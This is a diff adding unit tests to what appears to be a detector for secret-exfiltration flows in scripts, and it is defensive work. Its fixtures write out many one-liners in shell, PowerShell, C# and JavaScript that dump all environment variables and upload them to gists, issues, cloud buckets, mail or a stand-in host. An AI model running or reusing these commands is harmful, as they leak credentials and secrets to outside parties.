@@ -136,3 +136,61 @@ describe('a secret is followed through text', () => {
     followText(`fetch(${'"a"+'.repeat(20_000)}process.env)`, 'javascript');
   });
 });
+
+describe('what programs leave with a service', () => {
+  it.each<[DialectName, string]>([
+    ['shell', 'printenv | gh gist create --public -'],
+    ['shell', 'gh api -X POST repos/me/a/issues -f body="$(printenv | base64)"'],
+    [
+      'shell',
+      'f=$(mktemp)\n{ id; printenv; } 2>/dev/null | base64 >"$f.b64"\nglab snippet create "$f.b64"',
+    ],
+    [
+      'shell',
+      'while read -r n; do printenv "$n"; env\ndone >>"$all"\naws s3 cp "$all" s3://some-bucket/a',
+    ],
+    ['shell', '(hostname; env) | tee "$log" >/dev/null\nscp "$log" me@collect.test:in/'],
+    ['shell', 'env | gsutil cp - gs://some-bucket/a'],
+    ['shell', 'env | mail -s report me@collect.test'],
+    ['shell', 'env > "$f"\nrclone copyto "$f" drop:a'],
+    ['powershell', 'Get-ChildItem env: | Out-File $f\ngh release upload v1 $f'],
+    [
+      'powershell',
+      '$t = Get-ChildItem env:\nSet-Content -Path $f $t\n& gh api -X PUT repos/a/b -F "content=@$f"',
+    ],
+    [
+      'powershell',
+      `$t = Get-ChildItem env:\n[IO.File]::WriteAllText($f, $t)\nInvoke-RestMethod ${u} -InFile $f`,
+    ],
+    [
+      'csharp',
+      `var f = "a"; File.WriteAllText(f, Join(Environment.GetEnvironmentVariables())); client.UploadFile("${u}", f);`,
+    ],
+    [
+      'javascript',
+      `fs.writeFileSync(f, JSON.stringify(process.env)); fetch("${u}", { body: fs.createReadStream(f) });`,
+    ],
+  ])('%s: %s', (dialect, text) => {
+    expect(flows(dialect, text)).toContain('environment-all → body');
+  });
+
+  it.each<[DialectName, string]>([
+    ['shell', 'env > "$f"\ngh release upload v1 "$g"'],
+    ['shell', '{ date; id; } >"$f"\nenv\ngh gist create "$f"'],
+    ['shell', 'env | grep CI\naws s3 cp out.zip s3://some-bucket/a'],
+    ['shell', 'env >"$f"\ngh auth status'],
+    ['powershell', 'Get-ChildItem env: | Out-Null\ngh release upload v1 $f'],
+  ])('stays quiet: %s: %s', (dialect, text) => {
+    expect(flows(dialect, text)).toEqual([]);
+  });
+
+  it('knows buckets, machines and mailboxes by how they are written', () => {
+    const near = (text: string) => followText(text, 'shell').flatMap((flow) => flow.near);
+    expect(near('env | aws s3 cp - s3://some-bucket/a')).toContain(
+      'https://some-bucket.s3.amazonaws.com/',
+    );
+    expect(near('f=a; env >"$f"; scp "$f" me@collect.test:in/')).toContain('tcp://collect.test/');
+    expect(near('env | mail me@collect.test')).toContain('smtp://collect.test/');
+    expect(near('env | gh gist create -')).toContain('https://api.github.com/');
+  });
+});
